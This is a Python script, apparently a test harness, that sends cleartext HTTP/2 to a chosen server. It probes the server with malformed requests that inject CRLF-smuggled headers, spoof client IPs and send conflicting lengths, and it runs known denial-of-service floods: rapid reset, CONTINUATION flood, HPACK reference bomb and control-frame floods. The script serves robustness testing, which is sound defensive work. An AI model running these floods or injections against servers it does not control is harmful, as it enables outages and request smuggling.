# SPDX-License-Identifier: Apache-2.0
"""HTTP/2 as nobody should speak it: ``hostile_h2.py ADDRESS PORT HOST WHAT``, without TLS.

``requests``: each of REQUESTS over a connection of its own; prints by name the status
of the answer, or "refused". ``floods``: all of FLOODS at once; prints the bytes that
each could send until the server ended the connection, at most LIMIT.
"""

from __future__ import annotations

import contextlib
import json
import socket
import sys
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor

from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

ADDRESS, PORT, HOST, WHAT = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode(), sys.argv[4]
OTHER = b"other.example.com"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATIENCE = 10.0
LIMIT = 48 << 20
BATCH = 100  # frames in one write
Header = tuple[bytes, bytes]
METHOD, SCHEME, PATH = (b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/")
AUTHORITY = (b":authority", HOST)
GET: list[Header] = [METHOD, SCHEME, PATH, AUTHORITY]
REQUESTS: dict[str, list[Header]] = {
    "plain": GET,
    "host alone": [METHOD, SCHEME, PATH, (b"host", HOST)],
    "another host": [*GET, (b"host", OTHER)],
    "two authorities": [*GET, (b":authority", OTHER)],
    "two paths": [*GET, (b":path", b"/other")],
    "no path": [METHOD, SCHEME, AUTHORITY],
    "an empty path": [METHOD, SCHEME, (b":path", b""), AUTHORITY],
    "a relative path": [METHOD, SCHEME, (b":path", b"other"), AUTHORITY],
    "a path with a line": [METHOD, SCHEME, (b":path", b"/ HTTP/1.1\r\nx: y"), AUTHORITY],
    "a path with a space": [METHOD, SCHEME, (b":path", b"/a b"), AUTHORITY],
    "a method with a line": [(b":method", b"GET / HTTP/1.1\r\nx: y"), SCHEME, PATH, AUTHORITY],
    "an authority with a line": [METHOD, SCHEME, PATH, (b":authority", HOST + b"\r\nx: y")],
    "an authority with a user": [METHOD, SCHEME, PATH, (b":authority", b"a@" + HOST)],
    "another scheme": [METHOD, (b":scheme", b"https"), PATH, AUTHORITY],
    "an unknown pseudo-header": [*GET, (b":client", b"6.6.6.6")],
    "a pseudo-header of answers": [*GET, (b":status", b"200")],
    "a pseudo-header late": [METHOD, SCHEME, PATH, (b"x", b"y"), AUTHORITY],
    "upper case": [*GET, (b"Fly-Client-IP", b"6.6.6.6")],
    "a value with a line": [*GET, (b"x", b"y\r\nfly-client-ip: 6.6.6.6")],
    "a value with a null": [*GET, (b"x", b"y\0z")],
    "a name with a colon": [*GET, (b"fly-client-ip:", b"6.6.6.6")],
    "a name with a space": [*GET, (b"x y", b"z")],
    "transfer-encoding": [*GET, (b"transfer-encoding", b"chunked")],
    "connection": [*GET, (b"connection", b"fly-client-ip")],
    "a length that is wrong": [*GET, (b"content-length", b"5")],
    "two lengths": [*GET, (b"content-length", b"0"), (b"content-length", b"5")],
    "connect": [(b":method", b"CONNECT"), AUTHORITY],
    "many headers": [*GET, *((b"x%d" % n, b"y") for n in range(2000))],
    "long headers": [*GET, *((b"x%d" % n, b"y" * 8000) for n in range(20))],
}


def headers(stream: int, fields: list[Header], *flags: str, coder: Encoder) -> list[Frame]:
    """As many frames as they need."""
    block = coder.encode(fields, huffman=False)
    first = HeadersFrame(stream, block[:16000], flags=["END_STREAM", *flags])
    rest = [ContinuationFrame(stream, block[at : at + 16000])
            for at in range(16000, len(block), 16000)]  # fmt: skip
    frames: list[Frame] = [first, *rest]
    frames[-1].flags.add("END_HEADERS")
    return frames


def frames_of(connection: socket.socket) -> Iterator[Frame]:
    """Until the server ends the connection."""
    data = b""
    while True:
        while len(data) < 9:
            part = connection.recv(65536)
            if not part:
                return
            data += part
        frame, length = Frame.parse_frame_header(memoryview(data[:9]))
        while len(data) < 9 + length:
            part = connection.recv(65536)
            if not part:
                return
            data += part
        frame.parse_body(memoryview(data[9 : 9 + length]))
        data = data[9 + length :]
        yield frame


def open_connection() -> socket.socket:
    connection = socket.create_connection((ADDRESS, PORT), PATIENCE)
    connection.sendall(PREFACE + SettingsFrame(0).serialize())
    return connection


def ask(fields: list[Header]) -> str | int:
    coder, decoder = Encoder(), Decoder()
    with open_connection() as connection, contextlib.suppress(ConnectionError):
        sent = b"".join(frame.serialize() for frame in headers(1, fields, coder=coder))
        connection.sendall(sent)
        for frame in frames_of(connection):
            if isinstance(frame, HeadersFrame):
                return str(dict(decoder.decode(frame.data))[":status"])
            if isinstance(frame, RstStreamFrame | GoAwayFrame):
                return "refused"
    return "refused"


def rapid_reset() -> Iterator[Frame]:
    coder = Encoder()
    for stream in range(1, 1 << 21, 2):
        yield from headers(stream, GET, coder=coder)
        yield RstStreamFrame(stream, error_code=8)


def continuations() -> Iterator[Frame]:
    coder = Encoder()
    yield HeadersFrame(1, coder.encode(GET), flags=["END_STREAM"])
    while True:
        yield ContinuationFrame(1, coder.encode([(b"x", b"y" * 8000)], huffman=False))


def bomb() -> Iterator[Frame]:
    """A reference of one byte to a header of 4,000, many times over."""
    coder = Encoder()
    for stream in range(1, 1 << 21, 2):
        block = coder.encode([*GET, (b"x", b"y" * 4000)], huffman=False)
        yield HeadersFrame(stream, block + b"\xbe" * 8000, flags=["END_STREAM", "END_HEADERS"])


def empty_data() -> Iterator[Frame]:
    yield HeadersFrame(1, Encoder().encode(GET), flags=["END_HEADERS"])
    while True:
        yield DataFrame(1, b"")


def forever(make: Callable[[], Frame]) -> Callable[[], Iterator[Frame]]:
    return lambda: iter(make, None)


FLOODS: dict[str, Callable[[], Iterator[Frame]]] = {
    "rapid reset": rapid_reset,
    "continuations": continuations,
    "bomb": bomb,
    "empty data": empty_data,
    "settings": forever(lambda: SettingsFrame(0, settings={4: 65535})),
    "pings": forever(lambda: PingFrame(0, b"12345678")),
    "priorities": forever(lambda: PriorityFrame(1, depends_on=0, stream_weight=1)),
    "windows": forever(lambda: WindowUpdateFrame(0, window_increment=1)),
}


def flood(frames: Iterator[Frame]) -> int:
    """Nothing is read, so answers pile up. Of a connection that the server has reset
    the bytes that it had not read are counted too."""
    sent = 0
    with open_connection() as connection:
        try:
            while sent < LIMIT:
                data = b"".join(next(frames).serialize() for _ in range(BATCH))
                connection.sendall(data)
                sent += len(data)
        except OSError:
            return sent
    return LIMIT


with ThreadPoolExecutor(32) as pool:
    if WHAT == "requests":
        found = dict(zip(REQUESTS, pool.map(ask, REQUESTS.values()), strict=True))
    else:
        sent = pool.map(lambda make: flood(make()), FLOODS.values())
        found = dict(zip(FLOODS, sent, strict=True))
    print(json.dumps(found))
